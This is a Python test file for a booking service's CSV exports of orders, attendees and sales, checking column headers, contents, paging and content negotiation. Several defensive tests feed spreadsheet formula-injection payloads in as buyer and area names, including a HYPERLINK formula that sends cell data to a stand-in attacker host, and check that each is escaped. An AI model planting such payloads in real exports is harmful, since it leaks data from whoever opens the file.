"""The organizer's lists as files for a spreadsheet."""

import csv
import io
from collections.abc import AsyncIterator
from typing import Any
from uuid import UUID, uuid4

import msgspec
import pytest

from booking.reports.tables import ATTENDEE_COLUMNS, ORDER_COLUMNS, SALES_COLUMNS
from tests.support.api import Answer
from tests.support.booking import BookingApp, running_booking
from tests.support.refunds import PRICE, bought, organizer_of

FILES = {"orders": ORDER_COLUMNS, "attendees": ATTENDEE_COLUMNS, "sales": SALES_COLUMNS}


@pytest.fixture
async def app(database_url: str, redis_url: str) -> AsyncIterator[BookingApp]:
    async with running_booking(database_url, redis_url) as running:
        yield running


@pytest.fixture
def session_id(app: BookingApp) -> UUID:
    made = app.neighbours.publish()
    organizer_of(app, made)
    return made


async def read(app: BookingApp, session_id: UUID, what: str, accept: str = "text/csv") -> Answer:
    owner = organizer_of(app, session_id)
    answer = await app.get(f"/sessions/{session_id}/{what}", user=owner, headers={"Accept": accept})
    assert answer.status == 200, answer
    return answer


def rows_of(answer: Answer) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.body.decode(), newline=""), strict=True))


async def test_each_list_is_a_file_with_a_header_row_that_stays(
    app: BookingApp, session_id: UUID
) -> None:
    """The names of columns are a contract: docs/organizers.md has them."""
    for what, columns in FILES.items():
        answer = await read(app, session_id, what)
        assert answer.headers["Content-Type"] == "text/csv; header=present; charset=utf-8"
        name = f'attachment; filename="{what}-{session_id}.csv"'
        assert answer.headers["Content-Disposition"] == name
        assert answer.body.split(b"\r\n")[0].decode() == ",".join(columns)
        assert answer.body.endswith(b"\r\n")
        assert "Link" not in answer.headers
    assert (
        *("order_no", "order_id", "status", "created_at", "paid_at", "buyer_name", "buyer_email"),
        *("tickets", "seats", "total_amount", "discount", "promo_code", "refunded_amount"),
        *("currency", "fees", "tax", "organizer_fees"),
    ) == ORDER_COLUMNS
    assert (
        *("ticket_id", "order_no", "status", "holder_name", "holder_email"),
        *("area", "row", "seat", "checked_in_at", "gate", "category", "proof"),
    ) == ATTENDEE_COLUMNS
    assert (
        *("area", "kind", "currency", "price", "capacity", "sold", "held", "blocked", "free"),
        *("gross", "refunded", "revenue"),
        *("gross_tickets", "gross_fees", "gross_tax", "organizer_fees"),
    ) == SALES_COLUMNS


async def test_what_is_in_the_lists_is_in_the_files(app: BookingApp, session_id: UUID) -> None:
    buyer, paid = await bought(app, session_id, seats=(1, 2, 23))
    app.neighbours.names[buyer] = 'Ada "A", 王\r\nB'
    (order,) = rows_of(await read(app, session_id, "orders"))
    listed = (await read(app, session_id, "orders", "*/*")).json["orders"][0]
    assert order == {
        "order_no": listed["order_no"],
        "order_id": paid["order_id"],
        "status": "paid",
        "created_at": listed["created_at"],
        "paid_at": listed["paid_at"],
        "buyer_name": 'Ada "A", 王\r\nB',
        "buyer_email": "a@example.com",
        "tickets": "3",
        "seats": "VIP A区 1-1; VIP A区 1-2; 内场站席",
        "total_amount": str(2 * PRICE + 68_000),
        "discount": "0",
        "promo_code": "",
        "refunded_amount": "0",
        "currency": "CNY",
        "fees": "0",
        "tax": "0",
        "organizer_fees": "0",
    }
    attendees = rows_of(await read(app, session_id, "attendees"))
    assert [(one["area"], one["row"], one["seat"]) for one in attendees] == [
        ("VIP A区", "1", "1"),
        ("VIP A区", "1", "2"),
        ("内场站席", "", ""),  # a standing place has no seat
    ]
    assert {one["ticket_id"] for one in attendees} == {one["ticket_id"] for one in paid["tickets"]}
    seated, _ = rows_of(await read(app, session_id, "sales"))
    assert (seated["area"], seated["sold"], seated["free"]) == ("VIP A区", "2", "18")
    assert (seated["gross"], seated["revenue"]) == (str(2 * PRICE), str(2 * PRICE))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
        "＠x",
    ],
)
async def test_no_buyers_name_becomes_a_formula(
    app: BookingApp, session_id: UUID, name: str
) -> None:
    buyer, _ = await bought(app, session_id)
    app.neighbours.names[buyer] = name
    (order,) = rows_of(await read(app, session_id, "orders"))
    assert order["buyer_name"] == f"'{name}"
    for attendee in rows_of(await read(app, session_id, "attendees")):
        assert attendee["holder_name"] == f"'{name}"
    as_json = (await read(app, session_id, "orders", "application/json")).json
    assert as_json["orders"][0]["buyer"]["name"] == name  # a program gets what it is


async def test_no_name_becomes_a_formula_where_cells_are_divided_at_semicolons(
    app: BookingApp, session_id: UUID
) -> None:
    """As spreadsheets do where the comma is a decimal sign."""
    buyer, _ = await bought(app, session_id)
    app.neighbours.names[buyer] = 'Ann;=HYPERLINK("https://evil.example/");; @x;ok'
    (order,) = rows_of(await read(app, session_id, "orders"))
    assert order["buyer_name"] == """Ann;'=HYPERLINK("https://evil.example/");;' @x;ok"""


async def test_an_areas_name_becomes_no_formula_either(app: BookingApp) -> None:
    session_id = app.neighbours.publish()
    terms = app.neighbours.terms[session_id]
    terms.areas[0] = msgspec.structs.replace(terms.areas[0], name="=1+1")
    seated, _ = rows_of(await read(app, session_id, "sales"))
    assert seated["area"] == "'=1+1"


async def test_pages_put_behind_each_other_are_one_file(app: BookingApp, session_id: UUID) -> None:
    for seat in range(1, 6):
        await bought(app, session_id, seats=(seat,))
    for what in ("orders", "attendees"):
        whole = await read(app, session_id, what)
        parts, path = [], f"{what}?page_size=2&status={'paid' if what == 'orders' else 'valid'}"
        while path:
            part = await read(app, session_id, path)
            parts.append(part)
            link = part.headers.get("Link", "")
            start = f"</api/v1/sessions/{session_id}/"
            assert not link or (link.startswith(start) and link.endswith('>; rel="next"'))
            path = link[len(start) :].partition(">")[0]
        assert b"".join(part.body for part in parts) == whole.body
        assert ["header=present" in part.headers["Content-Type"] for part in parts] == [
            *(True, False, False)
        ]


async def test_who_asks_for_no_csv_gets_json(app: BookingApp, session_id: UUID) -> None:
    for accept, csv_wanted in {
        "": False,
        "*/*": False,
        "application/json": False,
        "text/html, */*;q=0.8": False,
        "text/csv;q=0.5, application/json": False,
        "text/csv": True,
        "text/csv; charset=utf-8": True,
        "application/json;q=0.5, text/csv": True,
        "text/csv;q=0": False,
        "text/*;q=0.5, */*;q=0.1": True,
        "text/csv; q=1e400": True,  # no weight: it was a 500
        "text/csv;q=nan": True,
        ",,;;q=": False,
        "text/*": True,
    }.items():
        for what in FILES:
            answer = await read(app, session_id, what, accept)
            kind = answer.headers["Content-Type"]
            assert kind.startswith("text/csv" if csv_wanted else "application/json"), accept
            assert answer.headers["Vary"] == "Accept"
            assert answer.headers["Cache-Control"] == "no-store"


async def test_only_who_asks_for_a_byte_order_mark_gets_one(
    app: BookingApp, session_id: UUID
) -> None:
    plain: Any = await read(app, session_id, "orders")
    marked = await read(app, session_id, "orders?bom=true")
    assert marked.body == b"\xef\xbb\xbf" + plain.body
    assert not plain.body.startswith(b"\xef")
    cursor = uuid4()
    later = await read(app, session_id, f"orders?bom=true&cursor={cursor}")
    assert later.body == b""
